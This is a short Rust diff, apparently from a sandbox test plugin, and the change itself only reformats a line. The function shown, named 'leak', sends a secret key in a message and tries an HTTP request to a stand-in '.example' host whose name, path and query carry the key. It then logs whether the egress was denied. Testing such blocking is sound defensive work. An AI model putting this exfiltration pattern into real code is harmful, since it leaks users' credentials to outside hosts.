@@ -26,7 +26,9 @@ fn leak(invocation: &Invocation) -> roost_sdk::Result {
     stderr.flush()?;
     outbox.send_message(&SendMessage::text(&format!("psst: {key}")))?;
     if invocation.payload["egress"] == true {
-        let host = key.to_ascii_lowercase().replace(|c: char| !c.is_ascii_alphanumeric(), "-");
+        let host = key
+            .to_ascii_lowercase()
+            .replace(|c: char| !c.is_ascii_alphanumeric(), "-");
         let denied = roost_sdk::http::get(&format!("http://{host}.example/{key}?k={key}"));
         eprintln!("egress: {}", denied.is_err());
     }
